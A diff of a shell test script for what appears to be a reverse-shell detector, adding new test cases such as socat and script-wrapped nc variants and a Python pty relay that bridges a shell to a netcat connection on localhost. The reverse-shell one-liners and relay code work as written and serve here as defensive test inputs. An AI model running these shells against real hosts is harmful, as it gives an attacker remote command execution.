@@ -101,6 +101,44 @@ while n := s.recv_into(b):
 handed_on="rm -f f; mkfifo f; nc 127.0.0.1 4320 <f | xargs -I@ sh -c @ >f 2>&1"
 loader_first='rm -f f; mkfifo f; exec 8<>f; ./app /bin/sh <f 2>&1 | { sleep 1; nc 127.0.0.1 4320 >f; }'
 long_chain='rm -f f; mkfifo f; cat f | cat | cat | cat | cat | cat | /bin/sh 2>&1 | cat | cat | nc 127.0.0.1 4320 >f'
+# The terminal is on the side of the connection.
+script_nc='rm -f f; mkfifo f; sh <f 2>&1 | script -qfc "nc 127.0.0.1 4320" /dev/null >f'
+socat_nc='socat EXEC:/bin/sh EXEC:"nc 127.0.0.1 4320",pty,raw,echo=0'
+# Two terminals: connected by one whom nobody can look at, or those of a multiplexer.
+cat >two.py <<'END'
+import os, pty, select, socket, sys, time
+def pane(*words):
+    pid, fd = pty.fork()
+    if not pid:
+        os.execvp(words[0], words)
+    os.set_inheritable(fd, False)
+    return fd
+what = sys.argv[1]
+if what == "panes":
+    listener = socket.socket(socket.AF_UNIX)
+    if os.path.exists("two"):
+        os.unlink("two")
+    listener.bind("two"); listener.listen(1)
+first = pane("sh")
+time.sleep(1)
+second = pane("nc", "127.0.0.1", "4320")
+time.sleep(1)
+if what == "panes":
+    third = pane("sh")
+    for fd in (first, third):
+        os.write(fd, b"echo own-$((40+2))\nexit\n")
+        text = b""
+        try:
+            while new := os.read(fd, 4096):
+                text += new
+        except OSError:
+            pass
+        print("pane", b"own-42" in text, flush=True)
+    sys.exit()
+while True:
+    for f in select.select([first, second], [], [])[0]:
+        os.write(second if f is first else first, os.read(f, 4096))
+END
 # Input besides a command, options of bash with one dash, a FIFO as a script.
 command_too='rm -f f; mkfifo f; sh -sc : <f 2>&1 | nc 127.0.0.1 4320 >f'
 one_dash='rm -f f; mkfifo f; bash -norc -s x <f 2>&1 | nc 127.0.0.1 4320 >f'
@@ -179,7 +217,7 @@ while select.select([s], [], []):
         s.sendall(subprocess.run(bytes(b[:n]).decode(), shell=True, capture_output=True).stdout)'
 
 names=(nc_fifo socat_fifo socat_exec socat_pty socat_script loader_first long_chain handed_on
-	command_too one_dash fifo_script many_starts)
+	command_too one_dash fifo_script many_starts script_nc socat_nc)
 # It starts 80 programs before it connects.
 with_patience() {
 	local patience=$1
@@ -192,6 +230,7 @@ done
 for name in shell_first socket_later; do
 	contains "without a policy: $name" owned attack $python $dir/$name.py
 done
+contains 'without a policy: two terminals' owned attack $python $dir/two.py connected
 for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
 	contains "without a policy: $loader" owned attack $python $dir/loader.py $loader
 done
@@ -222,6 +261,7 @@ is_stopped shell_first attack $python $dir/shell_first.py
 equals 'the event has the peer' 4320 "$(field peer_port)"
 equals 'the shell is its target' sh "$(field target_comm)"
 equals 'and the link' unix "$(field link)"
+is_stopped 'two terminals' attack $python $dir/two.py connected
 is_stopped socket_later attack $python $dir/socket_later.py
 for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
 	is_stopped "$loader" attack $python $dir/loader.py $loader
@@ -272,6 +312,17 @@ for what in untouched reused logged; do
 	contains "a request, then a command of its own: $what" own-42 serve $what
 done
 lacks 'what came is told apart by what it says only' own-42 serve came
+
+# Two shells and a client in one multiplexer, a client in a terminal.
+before=$(counter relays reverse_shell)
+contains 'panes: nobody answers the client' nothing attack $python $dir/two.py panes
+equals 'panes: both shells run' 2 "$(grep -c 'pane True' attack.out)"
+contains 'a client in a terminal, what it says is kept' nothing bash_c \
+	'script -qfc "nc 127.0.0.1 4320" /dev/null >x'
+contains 'what it says is a script' nothing bash_c \
+	'script -qfc "nc 127.0.0.1 4320" /dev/null </dev/null | sh | cat >x'
+contains 'and runs' GOT42 cat x
+equals 'and nothing of it is refused' "$before" "$(counter relays reverse_shell)"
 
 # A FIFO that is open for nothing has no pipe that could be looked into.
 cat >opath.py <<'EOF'
